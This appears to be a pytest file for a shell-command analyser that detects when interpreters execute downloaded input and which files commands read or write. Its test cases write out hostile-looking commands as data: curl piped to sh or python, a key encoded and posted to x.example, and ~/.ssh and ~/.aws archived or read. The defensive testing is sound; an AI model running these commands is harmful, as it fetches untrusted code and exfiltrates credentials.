"""What commands do with their input and with files they download (sidecar.effects.command_io)."""

from __future__ import annotations

import pytest

from sidecar.effects.command_io import (
    executes_input,
    upstream,
)
from sidecar.shell.walk import SimpleCommand, analyse

INTERPRETERS = {"sh", "bash", "python3", "perl", "node", "source"}


def interpreter(script: str) -> SimpleCommand:
    return next(c for c in analyse(script).commands if c.program in INTERPRETERS)


@pytest.mark.parametrize(
    "script",
    [
        "curl x | sh",
        "curl x | sh -s -- --yes",
        "curl x | bash -",
        "curl x | python3",
        "curl x | python3 - arg",
        "bash <(curl x)",
        'bash -c "$(curl x)"',
        'python3 -c "$(curl x)"',
        "curl x | perl",
        "source <(curl x)",
        "curl x | node",
        "cat x | sh /dev/stdin",
    ],
)
def test_interpreters_that_run_what_they_are_fed(script: str) -> None:
    assert executes_input(interpreter(script)), script


@pytest.mark.parametrize(
    "script",
    [
        "curl x | python3 -m json.tool",
        "curl x | python3 -c 'import json, sys; print(json.load(sys.stdin))'",
        "curl x | node -e 'process.stdin.pipe(process.stdout)'",
        "curl x | python3 tools/report.py",
        "curl x | bash build.sh",
        "curl x | perl -ne 'print if /a/'",
        "curl x | bash -c 'wc -l'",
    ],
)
def test_interpreters_that_only_read_data(script: str) -> None:
    assert not executes_input(interpreter(script)), script


def test_upstream_follows_every_stage_nearest_first() -> None:
    command = analyse("cat key | base64 | gzip | curl -d @- https://x.example").commands[-1]
    assert [c.program for c in upstream(command)] == ["gzip", "base64", "cat"]


def test_archives_written_by_tar_zip_and_7z_are_write_targets() -> None:
    from sidecar.effects.command_io import write_targets

    def writes(script: str) -> list[str]:
        return write_targets(analyse(script).commands[0])

    assert writes("tar czf /tmp/h.tgz ~/.ssh") == ["/tmp/h.tgz"]
    assert writes("tar -czf out.tgz dir") == ["out.tgz"]
    assert writes("tar --create --file out.tar dir") == ["out.tar"]
    assert writes("tar xzf release.tgz") == []  # extracting reads the archive
    assert writes("zip -r /tmp/k.zip ~/.ssh") == ["/tmp/k.zip"]
    assert writes("7z a k.7z ~/.aws") == ["k.7z"]


def test_paths_in_interpreter_code_are_read_targets() -> None:
    from sidecar.effects.command_io import read_targets

    python = analyse("python3 -c 'print(open(\"/home/u/.ssh/id_rsa\").read())'").commands[0]
    assert "/home/u/.ssh/id_rsa" in read_targets(python)
    plain = analyse("python3 -c 'print(\"hello world\")'").commands[0]
    assert read_targets(plain) == []
